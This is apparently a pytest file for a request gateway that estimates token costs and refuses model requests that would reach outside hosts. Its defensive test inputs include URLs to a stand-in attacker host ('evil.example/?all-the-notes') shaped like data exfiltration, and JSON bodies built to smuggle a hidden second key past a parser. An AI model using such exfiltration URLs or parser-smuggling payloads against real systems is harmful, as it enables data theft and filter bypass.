"""Message request: what a request may cost is read from it, and what would have the model's server
reach out is refused.
"""

from __future__ import annotations

import json

import pytest

from parachuted.agents.gateway.message_request import RequestRefusedError, read_request

MODEL = "claude-haiku-4-5"
PLAIN = {"model": MODEL, "max_tokens": 100, "messages": [{"role": "user", "content": "hi"}]}
SENT = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?all-the-notes"}}


def said(part, role="user"):
    return {"messages": [{"role": role, "content": [part]}]}


REACHING = [
    {"mcp_servers": [{"type": "url", "url": "https://evil.example", "name": "x"}]},
    {"container": "container_011CPR5CNjB747bTd36fQLFk"},
    {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
    {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
    {"tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]},
    {"tools": [{"type": ["custom"], "name": "x"}]},
    said(SENT),
    said({"type": "document", "source": {"type": "file", "file_id": "file_1"}}),
    said({"type": "tool_result", "tool_use_id": "t", "content": [SENT]}),
    said({"type": "document", "source": {"type": "content", "content": [SENT]}}),
    said({"type": "container_upload", "file_id": "file_1"}),
    {"system": [SENT]},
]
OF_URL = {"properties": {"source": {"type": "url"}}}
CALL = {"type": "tool_use", "id": "t", "name": "x", "input": {"source": SENT["source"]}}
SEARCH = {"type": "tool_search_tool_regex_20251119", "name": "tool_search"}
PASSING = [
    {},
    {"tools": [{"name": "x", "input_schema": OF_URL}, {"type": "custom", "name": "y"}]},
    {"tools": [{"type": "bash_20250124", "name": "bash"}, SEARCH]},
    said({"type": "image", "source": {"type": "base64", "data": "x"}}),
    said(CALL, role="assistant"),
    {"mcp_servers": []},
]


def read(**parts):
    return read_request(json.dumps({**PLAIN, **parts}, ensure_ascii=False).encode())


@pytest.mark.parametrize("part", REACHING, ids=str)
def test_a_request_reaches_nothing_but_the_model(part):
    with pytest.raises(RequestRefusedError, match="reach nothing but the model"):
        read(**part)


@pytest.mark.parametrize("part", PASSING, ids=str)
def test_what_the_request_holds_itself_passes(part):
    assert read(**part).model == MODEL


def test_no_second_reader_can_find_another_request_in_it():
    for body in (
        b'{"mcp_servers": [], "m\\u0063p_servers": [{"url": "https://evil.example"}]}',
        b'{"messages": [{"content": [{"source": {"type": "base64", "type": "url"}}]}]}',
        json.dumps(PLAIN).encode("utf-16"),
        b"[" * 100_000,
        b"[]",
        b"not json",
        b"",
    ):
        with pytest.raises(RequestRefusedError):
            read_request(body)


def image(kind="image", size=1):
    source = {"type": "base64", "data": "x" * size}
    return {"role": "user", "content": [{"type": kind, "source": source}]}


@pytest.mark.parametrize(
    ("parts", "least", "most"),
    [
        ({"metadata": {"x": "y" * 3_000}}, 3_000, 3_100),
        ({"system": "\u4e2d" * 4_000}, 6_000, 6_100),
        ({"messages": [image(size=3_000_000)] * 3}, 17_000, 17_400),
        ({"messages": [image("document", 300_000)]}, 32_000, 32_100),
        ({"system": "y" * 9_000_000}, 1_000_000, 1_000_000),
    ],
)
def test_what_a_prompt_takes_is_estimated_rather_too_high(parts, least, most):
    assert least <= read(**parts).input <= most


@pytest.mark.parametrize("most", [None, True, "1", 10**9, 1.5, -5])
def test_an_answer_of_no_stated_length_may_be_the_longest(most):
    assert (read(max_tokens=most).output, read(max_tokens=7).output) == (128_000, 7)


def test_what_is_cached_for_an_hour_is_reserved_at_its_price():
    text = {"type": "text", "text": "x", "cache_control": {"type": "ephemeral", "ttl": "1h"}}
    shorter = {**text, "cache_control": {"type": "ephemeral", "ttl": "5m"}}
    assert read().tokens(5).cache_write_5m > 0
    for part in (
        {"system": [text]},
        said(text),
        {"tools": [{**text, "type": "custom"}]},
        {"cache_control": {"ttl": "1h"}},
    ):
        assert read(**part).tokens(5).cache_write_1h > 0
    assert not read(system=[shorter]).writes_hour


def test_every_model_that_it_names_is_known_wherever_it_stands():
    parts = {
        "fallbacks": [{"model": "a"}],
        "fallback_model": "b",
        "models": ["c"],
        "advisor": {"model": "d"},
        "tools": [{"name": "x", "model": "e", "input_schema": {"properties": {"model": "no"}}}],
        "messages": [{"role": "user", "content": [{"model": "no"}]}],
        "metadata": {"model": "no"},
    }
    assert set(read(**parts).models) == {MODEL, "a", "b", "c", "d", "e"}


@pytest.mark.parametrize(
    "part",
    [
        {"service_tier": "priority"},
        {"service_tier": None},
        {"context_management": {"edits": [{"type": "compact_20260112"}]}},
        {"context_management": {"edits": ["compact"]}},
    ],
    ids=str,
)
def test_what_would_cost_otherwise_than_by_its_tokens_is_refused(part):
    with pytest.raises(RequestRefusedError):
        read(**part)
    read(
        service_tier="standard_only",
        context_management={"edits": [{"type": "clear_tool_uses_20250919"}]},
    )


def test_an_answer_is_shortened_and_its_thinking_with_it():
    thinking = {"type": "enabled", "budget_tokens": 8_000}
    request = read(max_tokens=9_000, thinking=thinking, stream=True)
    shorter = {"max_tokens": 3_000, "thinking": {**thinking, "budget_tokens": 2_999}}
    assert json.loads(request.body(b"", 3_000)) == {**PLAIN, "stream": True, **shorter}
    assert json.loads(request.body(b"", 8_500))["thinking"]["budget_tokens"] == 8_000
    assert request.body(b"as it was sent", 9_000) == b"as it was sent"
    with pytest.raises(RequestRefusedError, match="thinking"):
        request.body(b"", 1_000)
